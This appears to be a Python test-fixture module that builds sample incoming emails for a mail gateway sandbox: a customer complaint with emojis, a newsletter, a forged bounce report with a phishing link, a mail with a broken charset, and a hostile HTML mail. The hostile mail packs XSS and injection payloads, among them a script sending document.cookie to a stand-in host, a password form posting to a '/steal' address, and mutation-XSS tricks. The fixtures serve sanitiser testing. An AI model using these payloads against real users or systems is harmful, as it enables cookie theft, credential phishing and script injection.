"""What also arrives: attacks, newsletters, forgeries and mails that are broken."""

from __future__ import annotations

from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.parser import Parser
from typing import Final

from gateway.sandbox.mails.scene import Scene, Sheet, boundary, finished, html_mail, text_mail, text_part

EMOJI: Final = Scene(
    name="emoji-subject",
    person="Chiara 🌻 Bellini",
    address="chiara.bellini@customer.test",
    build=text_mail(
        "📦😱 pacco arrivato bagnato!!! 🙏",
        """
Ciao! Il pacco è arrivato completamente bagnato 😭 le tovagliette (ordine 48244) sono macchiate,
ha piovuto tutto il giorno e il corriere l’ha lasciato davanti al cancello 🤦🏻‍♀️

Si possono cambiare? ❤️

Inviato da iPhone
""",
        encoding="base64",
        mailer="iPhone Mail (21F90)",
    ),
    replies=("Grazie mille!! 🥰 Le aspetto allora.",),
)

HOSTILE: Final = Scene(
    name="hostile-html",
    person="Account Security",
    address="no-reply@parcel-tracking.test",
    build=html_mail(
        "Your parcel could not be delivered",
        """
Dear customer,

your parcel is waiting. Confirm your address: http://parcel-tracking.test/confirm
""",
        """<html><head><meta http-equiv="refresh" content="0; url=http://parcel-tracking.test/stolen">
<base href="http://parcel-tracking.test/"><style>
@import url("http://parcel-tracking.test/track.css");
body * { visibility: hidden } #top { position: fixed; inset: 0; z-index: 99999; background: #fff; visibility: visible }
</style><script>document.title = "owned"; fetch("http://parcel-tracking.test/" + document.cookie)</script></head>
<body onload="document.title='owned'">
<div id="top" style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(http://parcel-tracking.test/bg.png)">
<p>Dear customer, your parcel is waiting.</p>
<p><a href="javascript:document.title='owned'">Confirm your address</a>
<a href="  java&#10;script:document.title='owned'">or here</a>
<a href="data:text/html,<script>document.title='owned'</script>">or there</a>
<a href="http://parcel-tracking.test/confirm" target="_top">https://desk.test/login</a></p>
<svg onload="document.title='owned'">
<a xlink:href="javascript:document.title='owned'"><text y="20">track</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='owned'&gt;">
</mglyph></table></mtext></math>
<img src="http://parcel-tracking.test/pixel.gif?who=support" width="1" height="1" alt="">
<img src="x" onerror="document.title='owned'">
<iframe src="http://parcel-tracking.test/frame" srcdoc="<script>top.document.title='owned'</script>"></iframe>
<object data="http://parcel-tracking.test/a.swf"></object><embed src="http://parcel-tracking.test/b.swf">
<form action="http://parcel-tracking.test/steal" method="post"><input name="password" type="password" autofocus
onfocus="document.title='owned'"><button formaction="javascript:document.title='owned'">Log in again</button></form>
<template><script>document.title='owned'</script></template>
<noscript><p title="</noscript><img src=x onerror=document.title='owned'>"></noscript>
</div></body></html>
""",
    ),
)


def _newsletter(sheet: Sheet) -> bytes:
    message = MIMEMultipart("alternative", boundary=boundary(sheet, "news"))
    text = "Spring is here: new colours for trade customers.\n\nUnsubscribe: https://trade-weekly.test/u/8c21\n"
    html = (
        '<table width="600"><tr><td><h1>Spring is here</h1><p>New colours for trade customers.</p>'
        '<img src="https://trade-weekly.test/o/8c21.gif" width="1" height="1"></td></tr>'
        '<tr><td style="font-size:10px"><a href="https://trade-weekly.test/u/8c21">Unsubscribe</a></td></tr></table>\n'
    )
    message.attach(text_part(text, "plain"))
    message.attach(text_part(html, "html"))
    message["List-Id"] = "Trade weekly <trade-weekly.trade-weekly.test>"
    message["List-Unsubscribe"] = "<https://trade-weekly.test/u/8c21>, <mailto:leave@trade-weekly.test>"
    message["List-Unsubscribe-Post"] = "List-Unsubscribe=One-Click"
    message["Precedence"] = "bulk"
    message["Feedback-ID"] = "spring:8c21:trade-weekly"
    return finished(message, sheet, "Trade weekly: spring is here")


NEWSLETTER: Final = Scene(
    name="newsletter",
    person="Trade weekly",
    address="news@trade-weekly.test",
    build=_newsletter,
    envelope_from="bounces+8c21@trade-weekly.test",
)


def _forged_bounce(sheet: Sheet) -> bytes:
    """A report about a mail that nobody sent: right form, invented ids, a link to click on."""
    report = MIMEMultipart("report", boundary=boundary(sheet, "rep"), report_type="delivery-status")
    text = (
        "5 incoming messages could not be delivered to your mailbox.\n"
        "Release them within 24 hours: http://mail-quota.test/release?box=support@desk.test\n"
    )
    status = (
        "Original-Envelope-Id: 1\nReporting-MTA: dns; mail-quota.test\n\n"
        "Final-Recipient: rfc822; desislava.petrova@customer.test\nAction: failed\nStatus: 5.1.1\n"
        "Diagnostic-Code: smtp; 550 5.1.1 mailbox unavailable\n\n"
    )
    original = (
        "From: support@desk.test\nTo: desislava.petrova@customer.test\n"
        "Subject: Your order\nMessage-ID: <0001@desk.test>\n\n(removed)\n"
    )
    status_part = MIMEMultipart("mixed")
    status_part.set_type("message/delivery-status")
    status_part.set_payload([Parser().parsestr(block + "\n") for block in status.strip().split("\n\n")])
    for part in (text_part(text, "plain"), status_part, MIMEMessage(Parser().parsestr(original))):
        report.attach(part)
    report["Auto-Submitted"] = "auto-replied"
    return finished(report, sheet, "Undelivered Mail Returned to Sender")


FORGED_BOUNCE: Final = Scene(
    name="forged-bounce",
    person="Mail Delivery System",
    address="MAILER-DAEMON@mail-quota.test",
    build=_forged_bounce,
    envelope_from="",
)


def _broken_charset(sheet: Sheet) -> bytes:
    """Raw bytes of windows-1250 under the label us-ascii, with one line of UTF-8 that a footer program added."""
    head = (
        f"From: {sheet.name} <{sheet.address}>\r\nTo: {sheet.to}\r\n"
        f"Date: {sheet.stamp.date}\r\nMessage-ID: {sheet.message_id}\r\n"
        "Subject: Reklamace - rozbitá sklenice\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
    ).encode("windows-1250")
    text = (
        "Dobrý den,\r\n\r\nze šesti sklenic (objednávka 48219) přišla jedna rozbitá. Střepy jsem vyhodil,\r\n"
        "fotku bohužel nemám. Pošlete prosím náhradní kus?\r\n\r\nZdeněk Kolář\r\n"
    ).encode("windows-1250")
    footer = "\r\n-- \r\nTato zpráva byla zkontrolována – žádné viry.\r\n".encode()
    return head + text + footer


BROKEN_CHARSET: Final = Scene(
    name="broken-charset",
    person="Zdeněk Kolář",
    address="zdenek.kolar@customer.test",
    build=_broken_charset,
    replies=("Děkuji, to je od vás moc hezké. Adresa zůstává stejná.",),
)
